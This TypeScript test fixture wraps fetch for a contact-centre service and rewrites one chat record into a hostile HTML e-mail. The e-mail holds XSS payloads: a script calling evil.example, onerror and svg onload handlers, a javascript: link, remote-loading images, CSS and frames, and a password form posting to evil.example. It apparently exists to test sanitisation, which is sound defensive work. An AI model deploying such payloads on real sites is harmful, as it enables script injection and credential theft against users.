import type { FetchFn } from '../../src-main/core/wolkvox/client';

/**
 * A fetch for the service that passes every simulator answer through, but rewrites the first record of each
 * chat_4 answer into a hostile e-mail: a script, event handlers, remote images, CSS loads, a frame, a form,
 * javascript: and http links, right-to-left text, control characters, emoji and a 100 KB answer. Each
 * attack would set window.__pwned or request evil.example if it ever ran or loaded.
 */
export const HOSTILE_MARKER = 'Zxhostile';
export const EVIL_HOST = 'evil.example';

export const HOSTILE_BODY = [
  '<html><head><style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) }</style>',
  '<link rel="stylesheet" href="http://evil.example/style.css"><meta http-equiv="refresh" content="0;url=http://evil.example/refresh"></head><body>',
  `<p>${HOSTILE_MARKER}: mi devolución sigue pendiente, por favor revisen.</p>`,
  "<script>window.__pwned = 'script'; fetch('http://evil.example/script')</script>",
  '<img src="http://evil.example/pixel.gif" width="1" height="1" alt="">',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<img srcset="http://evil.example/srcset.png 2x">',
  '<svg onload="window.__pwned = \'svg\'"><image href="http://evil.example/svg.png"/></svg>',
  '<a href="javascript:window.__pwned = \'link\'">Haga clic aquí</a>',
  '<p><a href="https://www.tiendaaurora.example/pedido/123">Ver mi pedido</a></p>',
  '<div style="position:fixed;inset:0;background:url(http://evil.example/overlay.png)">overlay</div>',
  '<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/obj"></object>',
  '<form action="http://evil.example/login"><input name="password" type="password"><button>Enviar</button></form>',
  '<table background="http://evil.example/table.png"><tr><td>Pedido</td><td>$120.000</td></tr></table>',
  '<p>مرحبا، لم يصلني الطلب بعد \u202e reversed \u0007 bell \u0000 nul 😊👨‍👩‍👧</p>',
  '</body></html>',
].join('');

export const LONG_ANSWER = `Respuesta ${'larga '.repeat(20_000)}fin`;

export function hostileFetch(): FetchFn {
  return async (input, init) => {
    const res = await fetch(input, init);
    const url = String(input instanceof Request ? input.url : input);
    if (!url.includes('api=chat_4') || res.status !== 200) return res;
    const text = await res.text();
    let json: { data?: unknown };
    try {
      json = JSON.parse(text) as { data?: unknown };
    } catch {
      return new Response(text, { status: res.status, headers: res.headers });
    }
    const first = Array.isArray(json.data) ? json.data[0] : json.data;
    if (first && typeof first === 'object') {
      Object.assign(first as Record<string, unknown>, { channel: 'Email', body: HOSTILE_BODY, answer: LONG_ANSWER, subject: `${HOSTILE_MARKER} factura` });
    }
    return new Response(JSON.stringify(json), { status: 200, headers: { 'content-type': 'application/json' } });
  };
}
